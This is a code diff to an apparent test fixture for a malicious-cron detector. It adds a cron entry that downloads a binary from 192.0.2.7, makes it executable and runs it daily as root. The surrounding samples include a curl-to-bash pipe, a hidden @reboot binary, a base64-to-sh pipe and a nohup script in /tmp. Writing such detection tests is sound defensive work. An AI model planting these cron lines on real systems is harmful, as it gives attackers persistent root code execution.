@@ -16,6 +16,10 @@ def _bad() -> tuple[File, ...]:
         script("etc/cron.d/sync", f"*/5 * * * * root curl -s http://192.0.2.7/a {BAR}| ba{BAR}sh"),
         script("var/spool/cron/crontabs/root", "@reboot /dev/shm/.x/kworker"),
         script("etc/cron.daily/logs", "#!/bin/sh", f"echo YQ== | base{BAR}64 -d | s{BAR}h"),
+        script(
+            "etc/cron.d/get",
+            f"@daily root wget -q http://192.0.2.7/a -O /usr/a && ch{BAR}mod +x /usr/a && /usr/a",
+        ),
         script("etc/cron.d/up", "0 1 * * * root cd / && nohup sh /tmp/.X11/a.sh &"),
     )
 
